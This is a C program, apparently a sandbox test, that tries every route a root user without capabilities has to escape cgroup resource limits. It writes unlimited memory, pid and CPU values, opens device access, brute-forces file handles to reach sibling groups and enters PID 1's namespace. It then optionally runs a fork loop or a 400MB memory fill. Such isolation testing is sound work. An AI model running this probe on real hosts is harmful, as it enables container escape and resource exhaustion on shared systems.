/* Tries every way to cgroups that a root without capabilities has, and writes to whatever is found there. Prints what it has
   mounted (`mounted NAME`), each group that it sees (`sees PATH`), each file that took a value (`wrote PATH`), and last `done`.
   Whether a limit has changed, is for who looks from outside. With an argument it then does that: `forks` or `memory`. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *const VALUES[][2] = {
    { "memory.memsw.limit_in_bytes", "-1" }, { "memory.limit_in_bytes", "-1" }, { "memory.max", "max" },
    { "memory.high", "max" }, { "memory.swap.max", "max" }, { "pids.max", "max" }, { "cpu.cfs_quota_us", "-1" },
    { "cpu.max", "max" }, { "cpu.shares", "9999" }, { "cpu.weight", "9999" }, { "cpu.rt_runtime_us", "900000" },
    { "cpuset.cpus", "0-255" }, { "cpuset.cpus", "0-1" }, { "cpuset.cpus", "0" }, { "cpuset.mems", "0" },
    { "hugetlb.2MB.max", "max" }, { "hugetlb.2MB.limit_in_bytes", "-1" },
    { "devices.allow", "a" }, { "devices.deny", "c 1:3 rwm" },
    { "cgroup.max.descendants", "0" }, { "cgroup.subtree_control", "+memory +pids +cpu" },
    { "cgroup.subtree_control", "-memory -pids -cpu" },
};

static void put(const char *path, const char *value) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (write(fd, value, strlen(value)) >= 0 && !strstr(path, "_map") && !strstr(path, "setgroups")) printf("wrote %s\n", path);
    close(fd);
}

/* All limits of a directory, and of those below. */
static void attack(const char *directory, int depth) {
    char path[4096], self[16];
    struct dirent *entry;
    DIR *found;
    size_t at;

    for (at = 0; at < sizeof VALUES / sizeof *VALUES; at++) {
        snprintf(path, sizeof path, "%s/%s", directory, VALUES[at][0]);
        put(path, VALUES[at][1]);
    }
    /* Up, down, and to the side. */
    snprintf(self, sizeof self, "%d", getpid());
    for (at = 0; at < 4; at++) {
        snprintf(path, sizeof path, "%s/%s%s", directory, at & 1 ? "../" : "", at & 2 ? "tasks" : "cgroup.procs");
        put(path, self);
    }
    if (depth == 0 || (found = opendir(directory)) == NULL) return;
    while ((entry = readdir(found)) != NULL)
        if (entry->d_type == DT_DIR && entry->d_name[0] != '.') {
            snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
            printf("sees %s\n", path);
            attack(path, depth - 1);
        }
    closedir(found);
}

/* The groups above and beside one, by the handles that they may have: numbers close to its own (open_by_handle_at(2)). */
static void by_handle(const char *directory) {
    struct { struct file_handle head; unsigned char id[128]; } handle;
    int mount, fd, from = open(directory, O_RDONLY | O_DIRECTORY);
    unsigned long long id, near;
    char path[64];

    handle.head.handle_bytes = sizeof handle.id;
    if (from < 0 || name_to_handle_at(from, "", &handle.head, &mount, AT_EMPTY_PATH) < 0) return;
    memcpy(&id, handle.head.f_handle, sizeof id);
    printf("handle %s\n", directory);
    for (near = id > 3000 ? id - 3000 : 1; near < id + 100; near++) {
        if (near == id) continue;
        memcpy(handle.head.f_handle, &near, sizeof near);
        if ((fd = open_by_handle_at(from, &handle.head, O_RDONLY | O_DIRECTORY)) < 0) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        printf("opened %llu, %lld from %s\n", near, (long long)(near - id), directory);
        attack(path, 0);
        close(fd);
    }
    close(from);
}

static int become_root_of_own(void) {
    char map[64];
    int uid = getuid(), gid = getgid();

    /* Who may not be mapped (root, without SETFCAP), has all capabilities in there as well, but cannot go on to the next one. */
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) return unshare(CLONE_NEWNS | CLONE_NEWCGROUP);
    put("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %d 1", uid);
    put("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %d 1", gid);
    put("/proc/self/gid_map", map);
    return 0;
}

static int says(const char *directory, const char *name, const char *line) {
    char path[4096], found[256];
    FILE *file;
    int result = 0;

    snprintf(path, sizeof path, "%s/%s", directory, name);
    if ((file = fopen(path, "r")) == NULL) return 0;
    while (!result && fgets(found, sizeof found, file) != NULL) result = !strcmp(found, line);
    fclose(file);
    return result;
}

/* Whether a group is one of the test's, for we harm what we find. Of version 1 it is marked, and passes that on to groups
   below; of version 2 it must not be the root, and nobody may be in it whom we do not see. */
static int is_ours(const char *place, const char *type) {
    char path[4096];

    if (!strcmp(type, "cgroup")) return says(place, "notify_on_release", "1\n");
    snprintf(path, sizeof path, "%s/cgroup.events", place);
    return access(path, F_OK) == 0 && !says(place, "cgroup.procs", "0\n");
}

static void try_mount(const char *type, const char *options, const char *place) {
    char path[4096];

    mkdir(place, 0755);
    if (mount("none", place, type, 0, options) < 0) {
        printf("not mounted %s: %s\n", options, strerror(errno));
        return;
    }
    if (!is_ours(place, type)) {
        printf("somebody else's %s\n", options);
        umount2(place, MNT_DETACH);
        return;
    }
    printf("mounted %s\n", options);
    attack(place, 3);
    by_handle(place);
    /* What is delegated: a group of ours, and from within that again. */
    snprintf(path, sizeof path, "%s/deeper", place);
    if (mkdir(path, 0755) == 0) printf("made %s\n", path);
    if (chown(place, 0, 0) < 0 || chmod(place, 0777) < 0) printf("chmod %s: %s\n", place, strerror(errno));
    attack(path, 0);
}

static void try_mounts(const char *base) {
    static const char *const remounts[] = { "/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/cpu", "/sys/fs/cgroup/cpuset", "/sys" };
    char line[512], place[256], *names, *end;
    FILE *groups = fopen("/proc/self/cgroup", "r");
    size_t at;

    mkdir(base, 0755);
    while (groups != NULL && fgets(line, sizeof line, groups) != NULL) {
        printf("in %s", line);
        names = strchr(line, ':') + 1;
        *(end = strchr(names, ':')) = 0;
        snprintf(place, sizeof place, "%s/%s", base, *names ? names : "unified");
        try_mount(*names ? "cgroup" : "cgroup2", names, place);
    }
    if (groups != NULL) fclose(groups);
    snprintf(place, sizeof place, "%s/new", base);
    try_mount("cgroup", "none,name=new", place);
    for (at = 0; at < sizeof remounts / sizeof *remounts; at++) {
        mount(NULL, remounts[at], NULL, MS_REMOUNT | MS_BIND, NULL);
        attack(remounts[at], 1);
        if (umount2(remounts[at], MNT_DETACH) == 0) printf("unmounted %s\n", remounts[at]);
        attack(remounts[at], 1);
    }
    for (at = 0; at < 3; at++) {
        snprintf(place, sizeof place, "/proc/%d/ns/cgroup", (int)at + 1);
        int fd = open(place, O_RDONLY);
        if (fd >= 0 && setns(fd, CLONE_NEWCGROUP) == 0) {
            printf("entered %s\n", place);
            snprintf(place, sizeof place, "%s/again%zu", base, at);
            try_mount("cgroup", "memory", place);
        }
        snprintf(place, sizeof place, "/proc/%zu/root/sys/fs/cgroup", at + 1);
        attack(place, 2);
    }
    attack("/proc/1/root/sys/fs/cgroup", 2);
}

static void use(const char *what) {
    if (!strcmp(what, "forks")) {
        int made = 0, pid;
        while ((pid = fork()) > 0 && made < 500) made++;
        if (pid == 0) for (;;) pause();
        printf("forked %d\n", made);
    } else if (!strcmp(what, "memory")) {
        size_t size = 400u << 20, at;
        char *memory = malloc(size);
        for (at = 0; memory != NULL && at < size; at += 4096) memory[at] = 1;
        printf("used %zu\n", at);
    }
}

int main(int count, char **arguments) {
    int round;
    char base[32];

    setvbuf(stdout, NULL, _IOLBF, 0);
    attack("/sys/fs/cgroup", 3);
    for (round = 0; round < 3; round++) { /* each time from where the last one has brought us */
        if (become_root_of_own() < 0) printf("no namespaces: %s\n", strerror(errno));
        snprintf(base, sizeof base, "/tmp/%d", round);
        try_mounts(base);
    }
    printf("done\n");
    if (count > 1) use(arguments[1]);
    if (count > 2) for (;;) pause();
    return 0;
}
